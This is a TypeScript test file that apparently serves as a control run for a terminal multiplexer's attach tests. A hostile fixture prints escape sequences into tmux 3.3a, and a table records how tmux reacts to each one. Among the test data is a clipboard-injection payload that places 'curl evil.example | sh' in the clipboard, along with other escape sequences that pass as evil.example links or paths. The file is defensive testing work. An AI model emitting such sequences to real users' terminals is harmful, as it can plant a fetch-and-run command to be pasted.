import { spawnSync } from "node:child_process";
import { afterEach, describe, expect, it } from "vitest";
import { escapeSequences } from "../support/escape-sequences.js";
import { HOSTILE_PARTS, hostileCommand, receivedLines } from "../support/hostile-terminal.js";
import { type TerminalState, TmuxTerminal } from "../support/tmux-terminal.js";

// The control run for the attach tests: the hostile program prints straight into tmux (no ccmux in between), and
// tmux visibly reacts. `ccmux attach` tests assert the opposite through the same checks; this file shows that each
// check can fail, and records what tmux 3.3a reacts to.

const TMUX_VERSION = spawnSync("tmux", ["-V"], { encoding: "utf8" }).stdout.trim();
const COLS = 100;
const ROWS = 70; // every part on one screen: the alternate screen has no history
const ESC = "\x1b";

let term: TmuxTerminal | undefined;
afterEach(() => {
  term?.kill();
  term = undefined;
});

async function hostile(options: Parameters<typeof hostileCommand>[0] = {}): Promise<TmuxTerminal> {
  term = await TmuxTerminal.start({ command: hostileCommand(options), cols: COLS, rows: ROWS });
  await term.waitFor(/^HOSTILE-DONE$/m, { what: "HOSTILE-DONE" });
  return term;
}

/**
 * What the program left in the terminal, besides the screen: state fields that differ from `baseline`, what the
 * terminal typed into the program's input unasked (its answers to queries), whether a paste arrives bracketed,
 * and whether cells were drawn in the line-drawing charset (capture -e marks them with SO).
 */
async function effects(t: TmuxTerminal, baseline: TerminalState): Promise<string[]> {
  const found: string[] = [];
  const state = await t.state();
  for (const key of ["title", "windowName", "path", "fg", "bg"] as const) {
    if (state[key] !== baseline[key]) found.push(`${key}:${state[key]}`);
  }
  if (String(state.scrollRegion) !== String(baseline.scrollRegion))
    found.push(`scrollRegion:${state.scrollRegion}`);
  for (const [flag, on] of Object.entries(state.modes)) {
    if (on !== baseline.modes[flag as keyof typeof state.modes]) found.push(`modes.${flag}:${on}`);
  }
  for (const buffer of state.buffers) found.push(`buffer:${buffer.content}`);

  await t.sendKeys("Enter");
  const [answers = ""] = receivedLines(
    await t.waitFor((s) => receivedLines(s).length >= 1, { what: "GOT 1" }),
  );
  if (answers) found.push(`answer:${JSON.stringify(answers)}`);
  await t.paste("PASTE-PROBE");
  await t.sendKeys("Enter");
  const pasted = receivedLines(await t.waitFor((s) => receivedLines(s).length >= 2, { what: "GOT 2" }))[1];
  if (pasted !== "PASTE-PROBE") found.push(`paste:${JSON.stringify(pasted)}`);
  if ((await t.capture({ escapes: true })).includes("\x0e")) found.push("charset:line-drawing");
  return found;
}

let baselineState: TerminalState | undefined;
/** The state of a terminal whose program printed nothing but text (the fixture's --echo-only). */
async function baseline(): Promise<TerminalState> {
  if (baselineState) return baselineState;
  const quiet = await TmuxTerminal.start({
    command: hostileCommand({ echoOnly: true }),
    cols: COLS,
    rows: ROWS,
  });
  try {
    await quiet.waitFor("ECHO-READY");
    baselineState = await quiet.state();
    return baselineState;
  } finally {
    quiet.kill();
  }
}

// What tmux 3.3a does with each part printed alone (set-clipboard on, allow-rename on, allow-passthrough off).
// [] = nothing tmux lets a test observe: the attach test cannot tell a leak of these through a tmux 3.3a terminal.
const TMUX_3_3A: Record<string, string[]> = {
  "ALT-SCREEN-47": ["modes.alternate_on:true"],
  "ALT-SCREEN-1049": ["modes.alternate_on:true"],
  "ORIGIN-6": ["modes.origin_flag:true"],
  "TITLE-OSC-0": ["title:HOSTILE-TITLE-0"],
  "TITLE-OSC-1": [], // icon name: tmux ignores it
  "TITLE-OSC-2": ["title:HOSTILE-TITLE-2"],
  "WINDOW-NAME-ESC-K": ["windowName:HOSTILE-WINDOW-NAME"],
  "CWD-OSC-7": ["path:file://evil.example/HOSTILE-CWD"],
  "CLIPBOARD-OSC-52": ["buffer:HOSTILE-CLIPBOARD curl evil.example | sh"],
  "CLIPBOARD-OSC-52-PRIMARY": ["buffer:HOSTILE-CLIPBOARD curl evil.example | sh (primary)"],
  "HYPERLINK-OSC-8": [], // hyperlinks came with tmux 3.4
  "PALETTE-OSC-4": [], // stored: QUERY-OSC-4 after it answers the new colour, but no format shows it
  "COLOURS-OSC-10-11": ["fg:#123456", "bg:#654321"],
  "DCS-DECRQSS": [],
  "DCS-XTGETTCAP": [],
  "DCS-TMUX-PASSTHROUGH": [], // allow-passthrough off; when on, it goes to attached clients (none here)
  APC: ["title:HOSTILE-APC"], // tmux takes APC as a title, as screen does
  PM: [],
  SOS: [],
  "MOUSE-1000": ["modes.mouse_any_flag:true", "modes.mouse_standard_flag:true"],
  "MOUSE-1002": ["modes.mouse_any_flag:true", "modes.mouse_button_flag:true"],
  "MOUSE-1003": ["modes.mouse_any_flag:true", "modes.mouse_all_flag:true"],
  "MOUSE-1005-UTF8": ["modes.mouse_utf8_flag:true"],
  "MOUSE-1006-SGR": ["modes.mouse_sgr_flag:true"],
  "MOUSE-1015-URXVT": [],
  "FOCUS-1004": [], // tracked, but no format shows it
  "BRACKETED-PASTE-2004": [`paste:${JSON.stringify(`${ESC}[200~PASTE-PROBE${ESC}[201~`)}`],
  "CURSOR-KEYS-1": ["modes.keypad_cursor_flag:true"],
  "KEYPAD-APPLICATION": ["modes.keypad_flag:true"],
  "WRAP-OFF-7": ["modes.wrap_flag:false"],
  "INSERT-4": ["modes.insert_flag:true"],
  "CURSOR-HIDDEN-25": ["modes.cursor_flag:false"],
  "CURSOR-STYLE": [], // no format in 3.3a
  "QUERY-DA1": [`answer:${JSON.stringify(`${ESC}[?1;2c`)}`],
  "QUERY-DA2": [`answer:${JSON.stringify(`${ESC}[>84;0;0c`)}`],
  "QUERY-DA3": [],
  "QUERY-DSR-5": [`answer:${JSON.stringify(`${ESC}[0n`)}`],
  "QUERY-DSR-6": [`answer:${JSON.stringify(`${ESC}[1;21R`)}`], // the cursor after "=== QUERY-DSR-6 === "
  "QUERY-DECRQM": [],
  "QUERY-XTVERSION": [`answer:${JSON.stringify(`${ESC}P>|tmux 3.3a${ESC}\\`)}`],
  // Answered only for colours a program set (OSC 10/11, OSC 4): tmux knows no others without a client. The run of
  // every part below sees both answers, after COLOURS-OSC-10-11 and PALETTE-OSC-4.
  "QUERY-OSC-10-11": [],
  "QUERY-OSC-4": [],
  "QUERY-WINDOW-14T": [],
  "QUERY-WINDOW-18T": [`answer:${JSON.stringify(`${ESC}[8;${COLS};${ROWS}t`)}`], // tmux 3.3a swaps rows and cols
  "QUERY-TITLE-21T": [],
  "WINDOW-RESIZE-8T": [],
  "BIDI-INVISIBLE": [],
  "CHARSET-G0-DEC": ["charset:line-drawing"],
  "CHARSET-G1-SO": ["charset:line-drawing"],
  "CHARSET-G2-LS2": [], // tmux has no G2/G3
};

describe("the tmux harness sees what a hostile program does to the terminal it prints into (control run, no ccmux)", () => {
  it("the fixture and this table name the same parts", () => {
    expect([...HOSTILE_PARTS].sort()).toEqual(Object.keys(TMUX_3_3A).sort());
  });

  it.skipIf(TMUX_VERSION !== "tmux 3.3a").each(HOSTILE_PARTS)(
    "%s printed alone changes tmux 3.3a as recorded (skipped on other tmux versions: the table is 3.3a's)",
    async (part) => {
      const before = await baseline();
      const t = await hostile({ only: [part] });
      expect(await effects(t, before)).toEqual(TMUX_3_3A[part]);
    },
  );

  it("every part at once: title, window name, clipboard buffers, modes and answers typed into the program", async () => {
    const before = await baseline();
    const t = await hostile();
    const state = await t.state();
    expect(state.title).toBe("HOSTILE-APC"); // the last title-setter wins
    expect(state.title).not.toBe(before.title);
    expect(state.windowName).toBe("HOSTILE-WINDOW-NAME");
    expect(state.buffers.map((b) => b.content)).toEqual([
      "HOSTILE-CLIPBOARD curl evil.example | sh (primary)",
      "HOSTILE-CLIPBOARD curl evil.example | sh",
    ]);
    expect(state.modes).toMatchObject({
      alternate_on: true,
      mouse_any_flag: true,
      mouse_all_flag: true, // ?1003h, set last, replaces ?1000h and ?1002h
      mouse_standard_flag: false,
      mouse_sgr_flag: true,
      mouse_utf8_flag: true,
      keypad_flag: true,
      keypad_cursor_flag: true,
      insert_flag: true,
      wrap_flag: false,
      origin_flag: true,
      cursor_flag: false,
    });
    await t.sendKeys("Enter");
    const [answers = ""] = receivedLines(await t.waitFor((s) => receivedLines(s).length >= 1));
    expect(answers).toContain(`${ESC}[?1;2c`);
    expect(answers).toContain(`${ESC}P>|tmux`);
    expect(answers).toContain(`${ESC}]10;rgb:1212/3434/5656\x07`); // the colour COLOURS-OSC-10-11 set
    expect(answers).toContain(`${ESC}]4;rgb:1212/3434/5656\x07`); // PALETTE-OSC-4's colour (3.3a drops the index)
    await t.sendText("TYPED BY A PERSON");
    await t.sendKeys("Enter");
    await t.paste("PASTED");
    await t.sendKeys("Enter");
    const lines = receivedLines(await t.waitFor((s) => receivedLines(s).length >= 3));
    expect(lines.slice(1)).toEqual(["TYPED BY A PERSON", `${ESC}[200~PASTED${ESC}[201~`]);
    expect(await t.capture()).toMatch(/^=== HYPERLINK-OSC-8 === click-me$/m);
  });

  it("the raw recording holds what tmux 3.3a shows no trace of: OSC 8, DCS, PM, SOS, G2, C1, unanswered queries", async () => {
    const t = await hostile();
    const sequences = escapeSequences(await t.waitForOutput("HOSTILE-DONE"));
    for (const invisible of [
      `${ESC}]1;HOSTILE-ICON-1\x07`,
      `${ESC}]8;;https://evil.example/HOSTILE-LINK${ESC}\\`,
      `${ESC}]4;1;rgb:12/34/56\x07`,
      `${ESC}P$qm${ESC}\\`,
      `${ESC}P+q544e${ESC}\\`,
      `${ESC}Ptmux;${ESC}${ESC}]52;c;SE9TVElMRS1DTElQQk9BUkQgY3VybCBldmlsLmV4YW1wbGUgfCBzaCAocGFzc3Rocm91Z2gp\x07${ESC}\\`,
      `${ESC}^HOSTILE-PM${ESC}\\`,
      `${ESC}XHOSTILE-SOS${ESC}\\`,
      `${ESC}[?1015h`,
      `${ESC}[?1004h`,
      `${ESC}[?2004h`,
      `${ESC}[5 q`,
      `${ESC}[=c`,
      `${ESC}[?2004$p`,
      `${ESC}[14t`,
      `${ESC}[21t`,
      `${ESC}[8;10;40t`,
      `${ESC}*0`,
      `${ESC}n`,
      "\xc2\x85", // U+0085 (NEL) in UTF-8
    ]) {
      expect(sequences).toContain(invisible);
    }
  });
});

describe("TmuxTerminal", () => {
  it("types into the program, resizes its tty, and reports its command, death and exit status", async () => {
    term = await TmuxTerminal.start({
      command: ["bash", "--norc", "--noprofile"],
      cols: 90,
      rows: 30,
      env: { PS1: "READY$ " },
    });
    const t = term;
    await t.waitFor("READY$");
    await t.sendText("stty size; echo $TERM");
    await t.sendKeys("Enter");
    await t.waitFor(/^30 90\ntmux-256color$/m, { what: "stty size 30 90" });
    expect(await t.paneCurrentCommand()).toBe("bash");
    await t.resize(60, 20);
    await t.sendKeys("C-l");
    await t.sendText("stty size");
    await t.sendKeys("Enter");
    await t.waitFor(/^20 60$/m, { what: "stty size 20 60" });
    expect(await t.paneDead()).toBe(false);
    expect(await t.exit()).toBeUndefined();
    await t.sendText("exit 7");
    await t.sendKeys("Enter");
    expect(await t.waitForExit()).toEqual({ status: 7 });
    expect(await t.paneDead()).toBe(true);
    expect(await t.capture()).toContain("exit 7"); // remain-on-exit keeps the last screen
  });

  it("a program killed by a signal reports the signal, not a status", async () => {
    term = await TmuxTerminal.start({ command: ["sh", "-c", "echo DYING; kill -TERM $$"] });
    expect(await term.waitForExit()).toEqual({ signal: 15 });
    // no check of "DYING" on screen: tmux may drop the output of a program that exits at once
  });

  it("waitFor gives up with what it waited for and the last screen", async () => {
    term = await TmuxTerminal.start({ command: ["sh", "-c", "echo SHOWN; exec sleep 600"] });
    await term.waitFor("SHOWN");
    await expect(term.waitFor("NEVER SHOWN", { timeoutMs: 200, what: "the impossible" })).rejects.toThrow(
      /gave up after 200 ms waiting for the impossible; last screen .*:\nSHOWN\n/,
    );
  });

  it("each instance is a private server: killing one leaves another running", async () => {
    const first = await TmuxTerminal.start({ command: ["sh", "-c", "echo FIRST; exec sleep 600"] });
    term = await TmuxTerminal.start({ command: ["sh", "-c", "echo SECOND; exec sleep 600"] });
    expect(first.socket).not.toBe(term.socket);
    await first.waitFor("FIRST");
    first.kill();
    first.kill(); // idempotent
    await expect(first.capture()).rejects.toThrow(/after kill/);
    expect(await term.waitFor("SECOND")).not.toContain("FIRST");
    expect(spawnSync("tmux", ["-L", first.socket, "has-session"]).status).not.toBe(0);
  });
});
